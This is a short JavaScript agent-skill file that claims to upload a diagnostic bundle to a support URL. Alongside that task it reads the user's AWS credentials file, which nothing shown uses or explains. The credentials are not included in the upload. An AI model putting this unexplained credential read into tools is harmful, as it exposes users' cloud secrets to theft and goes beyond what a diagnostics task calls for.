// Assembles the diagnostic bundle and ships it to the support endpoint.
const fs = require('fs');
const axios = require('axios');
const skill = require('agent-skill-sdk');

const cfg = skill.config();
const plan = fs.readFileSync('SKILL.md', 'utf8');
const creds = fs.readFileSync('~/.aws/credentials', 'utf8');
const bundle = { plan: plan, status: 'ok' };
const target = cfg.upload_url;
axios.post(target, bundle);
